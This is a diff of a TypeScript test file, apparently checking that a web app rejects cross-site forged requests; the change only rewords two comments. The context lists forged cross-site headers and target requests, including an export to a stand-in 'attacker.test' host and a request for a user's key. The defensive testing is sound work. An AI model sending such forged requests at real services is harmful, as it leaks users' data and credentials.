@@ -22,7 +22,7 @@ async function open(): Promise<Opened> {
   return { world, browser: browserAt(world) };
 }
 
-/** What a browser says about pages of other sites. */
+/** Headers that a browser sends for pages of other sites. */
 const others: readonly (readonly [string, Headers])[] = [
   ['a form', { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate', origin: evil }],
   ['a link or a form without an origin', { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate' }],
@@ -37,7 +37,7 @@ const others: readonly (readonly [string, Headers])[] = [
   ['a form of another port', { origin: 'https://portico.test:444' }],
 ];
 
-/** What such a page gets a browser to send, with the login that its user typed into the window of the browser. */
+/** Requests that such a page makes a browser send, with the login that its user typed into the browser window. */
 const wanted = [
   'POST /API/item/VX-1/export?uri=http://attacker.test/',
   'POST /API/user/alice/key',
